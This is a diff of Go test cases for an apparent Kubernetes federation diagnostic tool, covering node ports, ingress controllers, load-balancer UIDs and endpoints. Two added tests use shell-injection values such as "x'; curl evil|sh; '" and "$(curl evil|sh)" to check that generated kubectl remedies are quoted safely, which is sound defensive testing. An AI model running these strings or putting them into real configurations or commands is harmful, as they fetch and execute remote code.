@@ -122,6 +122,9 @@ func clusterCases() []testCase {
 func portCases() []testCase {
 	differ := func(w *world) { w.facts(func(f *federation.ClusterFacts) { f.NodePorts[0].Port = 30999 }, "c3") }
 	decide := func(w *world, change func(d *federation.PortDecision)) { change(&w.in.Plan.Ports[0]) }
+	waiting := func(d *federation.PortDecision) {
+		d.Basis, d.NodePort, d.Waits = federation.PortWaiting, 0, []string{"c2"}
+	}
 	return []testCase{
 		{
 			name:   "node ports differ",
@@ -161,6 +164,52 @@ func portCases() []testCase {
 				})
 			},
 			want: []want{{id: "D11", severity: failure, object: serviceRef, message: "*"}},
+		},
+		{
+			name: "node ports differ while none is chosen", lasted: time.Minute,
+			change: func(w *world) {
+				differ(w)
+				decide(w, waiting)
+				w.facts(func(f *federation.ClusterFacts) { f.State = federation.ClusterOffline }, "c2")
+			},
+			want: []want{
+				{
+					id: "D11", severity: warning, object: serviceRef,
+					message: "the node ports differ between clusters: port 80/TCP is node port 30061 in c1; 30999 in c3, and none is chosen until c2 is back",
+					remedy:  "mend the clusters that it waits for, or set a nodePort in apps/web/service-web.yaml",
+				},
+				{id: "port-waiting", severity: warning, object: serviceRef, message: "*"},
+			},
+		},
+		{
+			name: "node ports differ while none is chosen, after a start",
+			change: func(w *world) {
+				differ(w)
+				decide(w, waiting)
+				w.facts(func(f *federation.ClusterFacts) { f.State, f.Synced = federation.ClusterPending, false }, "c2")
+			},
+			want: []want{
+				{id: "D11", severity: note, object: serviceRef, message: "*"},
+				{id: "port-waiting", severity: note, object: serviceRef, message: "*"},
+			},
+		},
+		{
+			name: "one port waits and another cannot be had",
+			change: func(w *world) {
+				differ(w)
+				w.facts(func(f *federation.ClusterFacts) {
+					f.NodePorts = append(f.NodePorts, federation.NodePort{Protocol: "UDP", Port: 31000, Namespace: "shop", Service: "web", ServicePort: 53})
+				}, "c1")
+				w.facts(func(f *federation.ClusterFacts) {
+					f.NodePorts = append(f.NodePorts, federation.NodePort{Protocol: "UDP", Port: 31001, Namespace: "shop", Service: "web", ServicePort: 53})
+				}, "c3")
+				decide(w, waiting)
+				w.facts(func(f *federation.ClusterFacts) { f.State = federation.ClusterOffline }, "c2")
+			},
+			want: []want{
+				{id: "D11", severity: failure, object: serviceRef, message: "*", remedy: "set nodePort: 31001"},
+				{id: "port-waiting", severity: note, object: serviceRef, message: "*"},
+			},
 		},
 		{name: "another port of the number, of a Service that is not ours", change: func(w *world) {
 			w.facts(func(f *federation.ClusterFacts) {
@@ -262,6 +311,15 @@ func ingressCases() []testCase {
 			}},
 		},
 		{
+			name:   "another controller takes over what Google's has left behind",
+			change: func(w *world) { w.plan(nginx, "c2") },
+			want:   []want{{id: "D12", severity: warning, cluster: "c2", object: ingressRef, message: "cluster c2 uses nginx: cannot share the IP of c1, c3"}},
+		},
+		{
+			name:   "another controller takes over everywhere",
+			change: func(w *world) { w.plan(nginx) },
+		},
+		{
 			name: "the default class of a cluster is another controller's",
 			change: func(w *world) {
 				w.plan(classless, "c2")
@@ -271,13 +329,34 @@ func ingressCases() []testCase {
 			want: []want{{id: "D12", severity: warning, cluster: "c2", object: ingressRef, message: "cluster c2 uses nginx: cannot share the IP of c1, c3"}},
 		},
 		{
-			name: "Google's load balancer is asked for",
+			name: "one cluster is not Google's, by an overlay", lasted: time.Hour,
 			change: func(w *world) {
 				w.in.Federation.GCP = &federation.GCP{LoadBalancer: "InstanceGroups"}
 				w.plan(nginx, "c2")
 				untouched(w, "c2")
 			},
+			want: []want{{id: "D12", severity: warning, cluster: "c2", object: ingressRef, message: "*"}},
+		},
+		{
+			name: "Google's load balancer is asked for, and the class stands in the wrong field",
+			change: func(w *world) {
+				w.in.Federation.GCP = &federation.GCP{LoadBalancer: "InstanceGroups"}
+				w.plan(byField, "c2")
+				untouched(w, "c2")
+			},
 			want: []want{{id: "D12", severity: failure, cluster: "c2", object: ingressRef, message: "*"}},
+		},
+		{
+			name: "one load balancer is to be shared by all",
+			change: func(w *world) {
+				sharedUID(w)
+				w.plan(nginx, "c2")
+				untouched(w, "c2")
+			},
+			want: []want{
+				{id: "D12", severity: failure, cluster: "c2", object: ingressRef, message: "*"},
+				{id: "D13", severity: note, cluster: "c2", object: uidRef, message: "*"},
+			},
 		},
 		{
 			name: "a Google project without a load balancer",
@@ -432,6 +511,20 @@ func uidCases() []testCase {
 				remedy:  `kubectl --context=ctx-c1 -n kube-system patch configmap ingress-uid --type=merge -p '{"data":{"uid":"aaaa"}}'`,
 			}},
 		},
+		{
+			name: "most clusters have a UID that is a command",
+			change: func(w *world) {
+				sharedUID(w)
+				other(w)
+				w.facts(func(f *federation.ClusterFacts) { f.IngressUID.UID, f.Ingresses = "x'; curl evil|sh; '", nil }, "c2", "c3")
+				w.observe(func(o *federation.Observation) { o.Annotations = nil }, ingressRef, "c2", "c3")
+			},
+			want: []want{{
+				id: "D13", severity: failure, object: uidRef,
+				message: `the UIDs of Google's ingress controllers differ, so each makes a load balancer of its own: "bbbb" in c1; "x'; curl evil|sh; '" in c2, c3`,
+				remedy:  "see who wrote ConfigMap/kube-system/ingress-uid: the UID that most clusters have is none that Google's controller makes",
+			}},
+		},
 		{name: "UIDs differ and nobody shares them", change: other},
 		{name: "what stands before the last -- does not count", change: func(w *world) {
 			sharedUID(w)
@@ -555,6 +648,19 @@ func serviceCases() []testCase {
 			}},
 		},
 		{
+			name: "no ready endpoint, by a selector and in a context that are commands", lasted: time.Minute,
+			change: func(w *world) {
+				w.plan(strings.ReplaceAll(serviceYAML, "app: web", `app: "$(curl evil|sh)"`), "c2")
+				w.in.Federation.Clusters[1].Context = "it's c2; id"
+				gone(w)
+			},
+			want: []want{{
+				id: "D18", severity: warning, cluster: "c2", object: serviceRef,
+				message: "no ready endpoint for networking.k8s.io/Ingress/shop/web: selector app=$(curl evil|sh), 0 ready and 2 not ready",
+				remedy:  `kubectl --context='it'\''s c2; id' -n shop get pods -l 'app=$(curl evil|sh)' -o wide`,
+			}},
+		},
+		{
 			name: "no ready endpoint for a moment", change: gone,
 			want: []want{{id: "D18", severity: note, cluster: "c2", object: serviceRef, message: "*"}},
 		},
@@ -575,6 +681,27 @@ func serviceCases() []testCase {
 				id: "no-share", severity: note, cluster: "c2", object: serviceRef,
 				message: "no replica of it is placed here, so networking.k8s.io/Ingress/shop/web sends nobody to this cluster",
 			}},
+		},
+		{
+			name: "no endpoint where an autoscaler runs no replica", lasted: time.Hour,
+			change: func(w *world) {
+				w.plan(strings.ReplaceAll(replicaSetYAML, "  replicas: 2\n", ""))
+				w.in.Plan.Replicas = nil
+				w.facts(func(f *federation.ClusterFacts) {
+					f.Endpoints = nil
+					f.Workloads = []federation.Workload{{Object: replicaSetRef}}
+				}, "c2")
+			},
+			want: []want{{id: "no-share", severity: note, cluster: "c2", object: serviceRef, message: "*"}},
+		},
+		{
+			name: "no endpoint of what an autoscaler scales", lasted: time.Hour,
+			change: func(w *world) {
+				w.plan(strings.ReplaceAll(replicaSetYAML, "  replicas: 2\n", ""))
+				w.in.Plan.Replicas = nil
+				gone(w)
+			},
+			want: []want{{id: "D18", severity: failure, cluster: "c2", object: serviceRef, message: "*"}},
 		},
 		{name: "no endpoint of a Service that is not there yet", lasted: time.Hour, change: func(w *world) {
 			gone(w)
@@ -697,17 +824,9 @@ func workloadCases() []testCase {
 		{name: "one is ready", lasted: time.Hour, change: func(w *world) {
 			w.facts(func(f *federation.ClusterFacts) { f.Workloads[0].Ready = 1 }, "c1")
 		}},
-		{
-			name: "replicas that find no place",
-			change: decide(func(d *federation.ReplicasDecision) {
-				d.Total, d.Shortfall, d.Reason = 9, 3, "maxReplicas of every cluster is reached"
-			}),
-			want: []want{{
-				id: "replicas", severity: failure, object: replicaSetRef,
-				message: "3 of 9 replicas are placed nowhere: maxReplicas of every cluster is reached",
-				remedy:  "apps/web/replicaset-web.yaml",
-			}},
-		},
+		{name: "replicas that find no place are the schedule's to tell", change: decide(func(d *federation.ReplicasDecision) {
+			d.Total, d.Shortfall, d.Reason = 9, 3, "max of every cluster reached"
+		})},
 		{
 			name: "replicas that are held too long", lasted: 10 * time.Minute, change: held,
 			want: []want{{
